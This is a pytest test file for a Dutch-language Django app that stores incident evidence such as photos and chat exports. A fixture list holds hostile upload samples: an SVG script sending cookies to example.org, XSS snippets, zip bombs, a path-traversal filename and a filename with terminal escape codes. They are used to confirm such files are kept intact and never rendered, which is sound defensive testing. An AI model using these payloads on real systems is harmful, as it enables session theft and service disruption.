"""*Bewijs*: pieces closed until she opens them, kept as they were, and taken out so that no browser shows them (J05, K19, K22)."""

from __future__ import annotations

import dataclasses
import hashlib
import io
import re
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING, Any
from unittest import mock

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from cast import NOW, PASSPHRASE, incident, verified
from houvast.errors import SeqTakenError
from houvast.logbook.entry import Incident
from houvast.logbook.evidence import Evidence
from houvast.logbook.when import When
from houvast.vault.vault import Vault
from houvast.web.dossiers import evidence_new
from houvast.web.dossiers.evidence_shown import pieces
from houvast_run import houvast
from web.test_imports import page
from web.test_uploads import leftovers, opened

if TYPE_CHECKING:
    from django.test import Client

SAMPLES = Path(__file__).parents[1] / "samples"
WITH_PLACE = SAMPLES / "photos/2026-01-27-briefje.jpg"
NEW = "/nl/n/g/n/"


def zipped(name: str, content: bytes) -> bytes:
    """A zip of one file."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, content)
    return target.getvalue()


SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://example.org/"+document.cookie)</script></svg>'
BOMB = zipped("bom.txt", b"\0" * (64 << 20))
HOSTILE: dict[str, tuple[str, bytes]] = {
    "svg with a script": ("plaatje.svg", SCRIPT),
    "html": ("brief.html", b"<script>alert(1)</script>"),
    "html called a photo": ("foto.jpg", b"<!doctype html><script>alert(1)</script>"),
    "pdf that is a zip": ("brief.pdf", b"%PDF-1.7\n%%EOF\n" + zipped("a.txt", b"a")),
    "gif that is a script": ("foto.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//"),
    "zip bomb": ("WhatsApp-chat met Ruben.zip", BOMB),
    "zip in a zip": ("map.zip", zipped("binnen.zip", zipped("bom.zip", BOMB))),
    "empty": ("leeg.jpg", b""),
    "a picture that states a million by a million": (
        "groot.png",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\x0f\x42\x40\0\x0f\x42\x40\x08\x02\0\0\0" + b"\0" * 40,
    ),
    "a name with folders": ("../../../etc/passwd", b"x"),
    "a name that steers": ("\u202egpj.exe\x07\x1b[2J", b"x"),
    "a name of 10,000 characters": ("n" * 10_000 + ".jpg", b"x"),
    "a name of dots": ("..", b"x"),
}


def kept(client: Client, **said: Any) -> Evidence:
    """What a form of new evidence recorded last."""
    answer = client.post(NEW, said)
    assert answer.status_code == 302, answer.content.decode()
    opened(client).follow()
    found = opened(client).vault.entries()[-1].entry
    assert isinstance(found, Evidence)
    return found


def body(answer: Any) -> bytes:
    """All of an answer that streams."""
    return b"".join(answer.streaming_content)


@pytest.mark.covers("J05", "C17")
def test_a_photo_is_kept_with_what_it_says_and_its_place_stays_private(client: Client, tmp_path: Path) -> None:
    opened(client).vault.record([incident()], NOW)
    content = WITH_PLACE.read_bytes()
    found = kept(
        client, file=SimpleUploadedFile(WITH_PLACE.name, content), description="Bloemen <b>bij</b> de deur", belongs="1",
        obtained="words", **{"obtained-words": "14 februari 2026"},
    )  # fmt: skip
    assert found.file is not None
    assert (found.file.sha256, found.sort, found.origin) == (hashlib.sha256(content).hexdigest(), "photo", "imported")
    assert found.coordinates is not None
    said = client.get("/nl/n/g/2/").content.decode()
    assert "Bloemen &lt;b&gt;bij&lt;/b&gt; de deur" in said
    for each in (
        "Volgens jou",
        "Volgens het bestand",
        "Hier vastgelegd",
        "Tijdstempel van buiten",
        "Deze foto is dicht",
    ):
        assert each in said
    assert "<img" not in said
    assert '<a href="/nl/n/a/1/"><bdi>1</bdi></a>' in said
    first, second = found.file.sha256[:32], found.file.sha256[32:]
    for line in (first, second):
        assert f"<bdi>{' '.join(line[at : at + 4] for at in range(0, 32, 4))}</bdi>" in said
    (shown,) = [
        each for each in houvast("show", tmp_path / "dossier", "--json").json["entries"] if each["kind"] == "evidence"
    ]
    assert shown["id"] == found.id
    assert verified(tmp_path / "dossier")[0].ok


@pytest.mark.covers("J05", "C02")
def test_a_period_in_her_words_is_read_back_before_it_is_recorded_and_the_file_waits(client: Client) -> None:
    opened(client).vault.record([incident()], NOW)
    said = {"description": "Bloemen", "belongs": "1", "obtained": "words", "obtained-words": "zomer 2025"}
    asked = client.post(NEW, {"file": SimpleUploadedFile("deur.jpg", b"x"), **said}).content.decode()
    assert "Wij schrijven op: ergens van juni tot en met september 2025 (geschat)." in asked
    assert "deur.jpg" in asked
    assert 'value="1" checked' in asked
    assert len(opened(client).vault.entries()) == 1
    (held,) = re.findall('name="held" value="([^"]+)"', asked)
    found = kept(client, held=held, read="zomer 2025", **said)
    assert (found.obtained, len(found.entries)) == (When("2025-06", estimated=True, until="2025-09"), 1)


@pytest.mark.covers("J05", "C02")
def test_words_that_can_mean_two_moments_are_a_choice_at_evidence_too_and_the_file_waits(client: Client) -> None:
    words = {"obtained": "words", "obtained-words": "vorige Koningsdag"}
    asked = client.post(NEW, {"file": SimpleUploadedFile("deur.jpg", b"x"), **words})
    said = asked.content.decode()
    assert asked.status_code == 400
    meant = re.findall('name="obtained-meant" value="([^"]+)"', said)
    assert len(meant) == 2
    (held,) = re.findall('name="held" value="([^"]+)"', said)
    found = kept(client, held=held, **words, **{"obtained-meant-of": "vorige Koningsdag", "obtained-meant": meant[0]})
    assert found.obtained is not None
    assert found.obtained.at == meant[0].split("/")[0]


def test_a_file_that_is_no_picture_is_not_called_one(client: Client) -> None:
    found = kept(client, file=SimpleUploadedFile("kapot.zip", b"PK\x03\x04 niets"))
    assert found.sort is None
    assert "Deze foto is dicht" not in client.get("/nl/n/g/1/").content.decode()


def test_of_a_file_that_she_kept_before_its_page_says_so_until_one_is_withdrawn(client: Client) -> None:
    for text in (b"een", b"twee", b"een"):
        kept(client, file=SimpleUploadedFile("blad.txt", text))
    told = {number: client.get(f"/nl/n/g/{number}/").content.decode() for number in (1, 2, 3)}
    assert [number for number, page in told.items() if "Dit bestand bewaarde je al eerder." in page] == [3]
    assert '<a href="/nl/n/g/1/">Naar notitie 1</a>' in told[3]
    client.post("/nl/n/a/1/x/", {"reason": "dubbel"})
    assert "bewaarde je al" not in client.get("/nl/n/g/3/").content.decode()


@pytest.mark.covers("J05")
def test_a_file_is_one_tap_from_today_and_the_log_and_comes_before_every_question(client: Client) -> None:
    for address in ("/nl/n/", "/nl/n/a/", "/nl/n/m/"):
        assert f'href="{NEW}"' in client.get(address).content.decode()
    asked = client.get(NEW).content.decode()
    assert (
        asked.index('type="file"')
        < asked.index('name="description"')
        < asked.index('name="obtained"')
        < asked.index("<details")
    )


@pytest.mark.covers("K19")
def test_a_photo_is_shown_only_when_she_asks_as_a_copy_without_what_it_says(client: Client) -> None:
    content = WITH_PLACE.read_bytes()
    kept(client, file=SimpleUploadedFile(WITH_PLACE.name, content))
    assert '<img src="/nl/n/g/1/p/"' in client.get("/nl/n/g/1/k/").content.decode()
    assert "<img" not in client.get("/nl/n/g/1/").content.decode()
    assert "<img" not in client.get("/nl/n/g/").content.decode()
    answer = client.get("/nl/n/g/1/p/")
    assert answer["Content-Type"] == "image/jpeg"
    assert b"Exif" not in answer.content
    assert answer.content != content


@pytest.mark.covers("K22")
def test_the_original_is_taken_out_under_a_name_that_says_nothing_after_a_warning(client: Client) -> None:
    content = WITH_PLACE.read_bytes()
    kept(client, file=SimpleUploadedFile("Ruben voor de déúr.jpg", content))
    said = client.get("/nl/n/g/1/d/").content.decode()
    assert "niet meer verzegeld" in said
    for words in ("", "iets anders dan dat"):
        refused = client.post("/nl/n/g/1/d/", {"name": "neutral", "words": words})
        assert (refused.status_code, "Dit is niet je wachtzin." in refused.content.decode()) == (400, True)
        assert "Content-Disposition" not in refused
    answer = client.post("/nl/n/g/1/d/", {"name": "neutral", "words": PASSPHRASE})
    assert answer["Content-Disposition"] == 'attachment; filename="bestand-1.jpg"'
    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert answer["Cache-Control"] == "no-store"
    assert body(answer) == content
    own = client.post("/nl/n/g/1/d/", {"name": "own", "words": PASSPHRASE})
    assert own["Content-Disposition"].startswith("attachment; filename*=utf-8''Ruben")


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_files_are_kept_byte_for_byte_and_never_shown(client: Client, case: str) -> None:
    name, content = HOSTILE[case]
    id_ = piecewise(client, name, content)
    found = kept(client, arrived=id_)
    assert found.file is not None
    assert found.file.sha256 == hashlib.sha256(content).hexdigest()
    pages = ["/nl/n/g/", "/nl/n/g/1/", "/nl/n/g/1/k/", "/nl/n/g/1/d/"]
    for each in pages:
        answer = client.get(each)
        assert answer.status_code == 200
        said = answer.content.decode()
        assert "<script>alert" not in said
        assert "\x07" not in said
        assert "\x1b" not in said
    assert client.get("/nl/n/g/1/p/").status_code == 404 or case == "a photo"
    for each in ("neutral", "own"):
        answer = client.post("/nl/n/g/1/d/", {"name": each, "words": PASSPHRASE})
        assert answer["Content-Disposition"].startswith("attachment; filename")
        assert len(answer["Content-Disposition"]) < 500
        assert answer["Content-Type"] == "application/octet-stream"
        assert "sandbox" in answer["Content-Security-Policy"]
        assert body(answer) == content


def piecewise(client: Client, name: str, content: bytes) -> str:
    """Send a file as the script does; its id."""
    said = {"page": NEW, "name": name, "size": len(content), "changed": 1}
    id_ = client.post("/nl/n/g/u/", said, content_type="application/json").json()["id"]
    if content:
        client.post(f"/nl/n/g/u/{id_}/", content, content_type="application/octet-stream", headers={"X-Offset": "0"})
    return str(id_)


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_files_are_read_in_with_a_clear_sentence(client: Client, case: str) -> None:
    name, content = HOSTILE[case]
    said = {"page": "/nl/n/g/i/", "name": name, "size": len(content), "changed": 1}
    id_ = client.post("/nl/n/g/u/", said, content_type="application/json").json()["id"]
    if content:
        client.post(f"/nl/n/g/u/{id_}/", content, content_type="application/octet-stream", headers={"X-Offset": "0"})
    at = client.post("/nl/n/g/i/", {"arrived": id_})["Location"]
    looked = page(client, at)
    client.post(at)
    done = page(client, at)
    opened(client).follow()
    (found,) = [each.entry for each in opened(client).vault.entries()]
    assert isinstance(found, Evidence)
    assert found.file is not None
    assert found.file.sha256 == hashlib.sha256(content).hexdigest()
    assert "Bewaard" in done
    assert "<script>alert" not in looked + done


@pytest.mark.covers("C26")
def test_an_object_is_noted_with_where_it_lies(client: Client) -> None:
    found = kept(client, physical="In de kluis bij Tess", description="Briefje", sort="photo")
    assert (found.file, found.physical) == (None, "In de kluis bij Tess")
    said = client.get("/nl/n/g/1/").content.decode()
    assert "In de kluis bij Tess" in said
    assert client.get("/nl/n/g/1/d/").status_code == 404


def test_what_came_stays_when_something_is_not_right_yet(client: Client) -> None:
    answer = client.post(NEW, {"file": SimpleUploadedFile("a.jpg", b"abc"), "belongs": "99"})
    said = answer.content.decode()
    assert answer.status_code == 400
    assert said.count("Er is geen notitie met nummer 99.") == 2
    assert "1 bestand is al binnen" in said
    held = said.split('name="held" value="')[1].split('"')[0]
    found = kept(client, held=held)
    assert found.file is not None
    assert found.file.sha256 == hashlib.sha256(b"abc").hexdigest()
    assert leftovers(client) == []


def test_what_came_waits_when_it_cannot_be_recorded_and_why_is_said(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: object) -> None:
        raise SeqTakenError(1)

    with monkeypatch.context() as now:
        now.setattr(Vault, "record", refuse)
        answer = client.post(NEW, {"file": SimpleUploadedFile("a.jpg", b"abc"), "description": "Bloemen"})
    said = answer.content.decode()
    assert answer.status_code == 400
    assert "Een ander programma schreef tegelijk" in said
    assert 'value="Bloemen"' in said
    (held,) = re.findall('name="held" value="([^"]+)"', said)
    assert kept(client, held=held).file is not None


def test_neither_a_file_nor_an_object_is_asked_for(client: Client) -> None:
    answer = client.post(NEW, {})
    assert answer.status_code == 400
    assert answer.content.decode().count("Kies een bestand, of schrijf op waar het voorwerp ligt.") == 2


def test_any_incident_can_be_ticked_the_newest_stand_open_and_what_was_ticked_too(client: Client) -> None:
    opened(client).vault.record(
        [Incident(when=When(f"2026-03-{day:02}"), what=f"Dag {day}.") for day in range(1, 13)], NOW
    )
    shown, _, folded = client.get(NEW).content.decode().partition("Wat je eerder noteerde")
    assert re.findall(r'name="belongs" value="(\d+)"', shown) == ["12", "11", "10"]
    assert re.findall(r'name="belongs" value="(\d+)"', folded) == [str(each) for each in range(9, 0, -1)]
    assert "1 maart 2026" in folded
    wrong = client.post(NEW, {"belongs": "1"}).content.decode().partition("Wat je eerder noteerde")[0]
    assert re.findall(r'name="belongs" value="(\d+)"( checked)?', wrong) == [
        ("12", ""), ("11", ""), ("10", ""), ("1", " checked"),
    ]  # fmt: skip
    first = opened(client).by_number[1].entry.id
    assert kept(client, physical="thuis", belongs="1").entries == (first,)
    begun = client.get(f"{NEW}2/").content.decode().partition("Wat je eerder noteerde")[0]
    assert ("2", " checked") in re.findall(r'name="belongs" value="(\d+)"( checked)?', begun)


def test_of_a_very_long_log_the_newest_can_be_ticked_and_the_rest_named_by_number(client: Client) -> None:
    opened(client).vault.record([Incident(what=f"{each}.") for each in range(evidence_new.MOST_OFFERED + 5)], NOW)
    page = client.get(NEW).content.decode()
    assert page.count('type="checkbox" name="belongs"') == evidence_new.MOST_OFFERED
    assert 'id="belongs" name="belongs" type="text"' in page


def test_what_belongs_to_a_private_entry_is_private(client: Client) -> None:
    opened(client).vault.record([dataclasses.replace(incident(), private=True)], NOW)
    assert kept(client, physical="thuis", belongs="1").private


def test_pages_of_many_pieces_are_leafed_through(client: Client) -> None:
    opened(client).vault.record([Evidence(physical=f"plek {n}") for n in range(60)], NOW)
    first, second = client.get("/nl/n/g/").content.decode(), client.get("/nl/n/g/p/2/").content.decode()
    assert ("plek 59" in first, "plek 0<" in first, "plek 0<" in second) == (True, False, True)
    assert client.get("/nl/n/g/p/3/").status_code == 404


def test_what_is_no_piece_is_not_found(client: Client) -> None:
    opened(client).vault.record([incident()], NOW)
    for each in ("g/1/", "g/1/k/", "g/1/p/", "g/1/d/", "g/1/o/", "g/1/o/r/", "g/1/i/", "g/7/"):
        assert client.get(f"/nl/n/{each}").status_code == 404


@pytest.mark.parametrize("path", ["g/", "g/1/", "g/1/d/", "g/n/", "g/i/", "g/o/", "g/1/p/", "g/u/abc/"])
def test_strangers_get_the_door(client: Client, path: str) -> None:
    kept(client, physical="thuis")
    client.post("/nl/y/")
    assert client.get(f"/nl/n/{path}").status_code in (302, 405)


def test_every_page_of_the_demo_stands(demo_client: Client) -> None:

    numbers = [each.number for each in pieces(opened(demo_client))]
    assert len(numbers) > 20
    for number in numbers:
        for lang in ("nl", "zz"):
            assert demo_client.get(f"/{lang}/n/g/{number}/").status_code == 200
    assert "Stukken uit dit bestand" in "".join(
        demo_client.get(f"/nl/n/g/{number}/o/").content.decode() for number in numbers
    )


def test_a_chat_kept_as_a_file_is_called_no_photo_and_reading_it_is_not_again(client: Client) -> None:
    assert 'href="/nl/n/g/i/">Een chat van WhatsApp' in client.get("/nl/n/g/n/").content.decode()
    kept = SimpleUploadedFile("WhatsApp-chat met R.txt", b"03-10-2026 19:08 - A: dag", "text/plain")
    at = client.post("/nl/n/g/n/", {"file": kept})["Location"]
    page = client.get(at).content.decode()
    assert "Deze foto is dicht" not in page
    again = client.get(re.search(r'href="([^"]*/i/)">Lees dit bestand', page)[1]).content.decode()  # type: ignore[index]
    assert "opnieuw" not in again


def test_a_file_that_is_named_as_a_photo_and_is_none_is_said_before_it_is_recorded(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    at = client.get("/nl/n/t/1/")["Location"]
    at = client.post(at, {"when": "now"})["Location"]
    at = client.post(at, {"what": "Stond er."})["Location"]
    while 'name="file"' not in client.get(at).content.decode():
        at = client.post(at, {})["Location"]
    gif, text = (SimpleUploadedFile(f"{name}.gif", head) for name, head in (("kat", b"GIF89a"), ("nep", b"hallo")))
    look = client.post(at, {"file": [gif, text], "look": "1"})["Location"]
    page = client.get(look).content.decode()
    assert "“nep.gif” kunnen we niet openen als foto." in page
    assert "“kat.gif” kunnen" not in page
    monkeypatch.setattr(Vault, "open", mock.Mock(side_effect=OSError))
    assert "Stond er." in client.get(look).content.decode()  # whatever the disk says of a file


@pytest.mark.parametrize(
    ("said", "asked"),
    [
        ("26 januari 2026", True), ("28 januari 2026", True), ("27 januari 2026 23:10", False), ("januari 2026", False),
        ("februari 2026", True), ("in de nacht van 27 op 28 januari 2026", False),
    ],
)  # fmt: skip
def test_a_photo_that_says_it_is_of_another_day_than_what_happened_is_asked_about_before_it_is_recorded(
    client: Client, said: str, *, asked: bool
) -> None:
    at = client.get("/nl/n/t/1/")["Location"]
    at = client.post(at, {"when": "words", "when-words": said})["Location"]
    at = client.post(at, {"what": "Stond er."})["Location"]
    while 'name="file"' not in client.get(at).content.decode():
        at = client.post(at, {})["Location"]
    photo = SimpleUploadedFile("briefje.jpg", WITH_PLACE.read_bytes())
    look = client.post(at, {"file": [photo], "look": "1"})["Location"]
    told = "“briefje.jpg” is volgens het bestand van dinsdag 27 januari 2026. Hoort die foto hierbij?"
    assert (told in client.get(look).content.decode()) is asked
    assert client.post(look, {}).status_code == 302
